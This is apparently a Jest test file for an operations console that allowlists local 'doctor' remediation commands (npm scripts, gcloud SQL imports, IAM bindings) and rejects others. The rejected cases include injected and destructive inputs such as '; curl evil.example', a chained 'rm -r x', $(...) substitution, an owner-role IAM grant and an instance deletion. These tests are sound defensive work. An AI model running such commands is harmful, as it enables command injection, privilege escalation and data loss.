import { remedyFor } from "../../../ops/console/remedies.ts";
import { wordsOf } from "../../../ops/console/words.ts";

const PROJECT = "settlement-local";
const MEMBER = "--member=serviceAccount:settlement-service@settlement-local.iam.gserviceaccount.com";

describe("the commands of the doctor that the console runs", () => {
  test.each([
    "npm run up -- --stack=local --refresh",
    "npm run up -- --stack=local",
    "npm run rotate -- --stack=local",
    "npm run migration -- recreate --stack=local",
    `(. .local/start/env && gcloud sql import sql db gs://b/o --database=d --user=u --project=${PROJECT})`,
    `gcloud sql import sql db gs://settlement-local-migrations/imports/1-a.sql --database=settlement_db --user=settlement_user --project=${PROJECT}`,
    `gcloud secrets add-iam-policy-binding settlement-db-connection-string ${MEMBER} --role=roles/secretmanager.secretAccessor --project=${PROJECT}`,
    `gcloud projects add-iam-policy-binding ${PROJECT} ${MEMBER} --role=roles/cloudsql.client '--condition=title=t,expression=resource.name == "a"' --project=${PROJECT}`,
  ])("runs %s", (command) => {
    expect(remedyFor(command, PROJECT)).toBeDefined();
  });

  test.each([
    "npm run up -- --stack=prod --refresh",
    "npm run up -- --stack=local --stack=prod",
    "npm run up -- --stack=local --take-over",
    "npm run up -- --stack=local --new-instance",
    "npm run migration -- restore --stack=local --backup=1",
    "npm run migration -- recreate --stack=staging",
    "npm run rotate -- --stack=local --refresh",
    "npm run up -- --refresh",
    "npm run up --stack=local",
    "npm run rotate -- --stack=local; curl evil.example",
    "npm run bootstrap -- --stack=local",
    "npm run rotate -- --stack=local && npm run rotate -- --stack=prod",
    "npm run up -- --stack=$(cat stack)",
    "npm start -- --reset",
    `(. .local/start/env && gcloud sql import sql db gs://b/o --project=${PROJECT} && rm -r x)`,
    `(. .local/other/env && gcloud sql import sql db gs://b/o --project=${PROJECT})`,
    "(. .local/start/env && npm run up -- --stack=local)",
    "gcloud sql import sql db gs://b/o --database=settlement_db --user=settlement_user --project=fusion-prime",
    "gcloud sql import sql db gs://b/o --database=settlement_db --user=settlement_user",
    `gcloud projects add-iam-policy-binding fusion-prime ${MEMBER} --role=roles/owner --project=${PROJECT}`,
    `gcloud sql instances delete db --project=${PROJECT}`,
    `gcloud sql users set-password settlement_user --instance=db --prompt-for-password --project=${PROJECT}`,
    "",
  ])("does not run %s", (command) => {
    expect(remedyFor(command, PROJECT)).toBeUndefined();
  });

  test("reads words as a shell does, and nothing that only a shell can do", () => {
    expect(wordsOf("a  'b c' --d='e \"f\"'")).toEqual(["a", "b c", '--d=e "f"']);
    for (const command of ["a | b", "a > b", "a `b`", "a $b", "a 'b", 'a "b"', "a\\ b", "a & b", "a\n& b"])
      expect([command, wordsOf(command)]).toEqual([command, undefined]);
  });
});
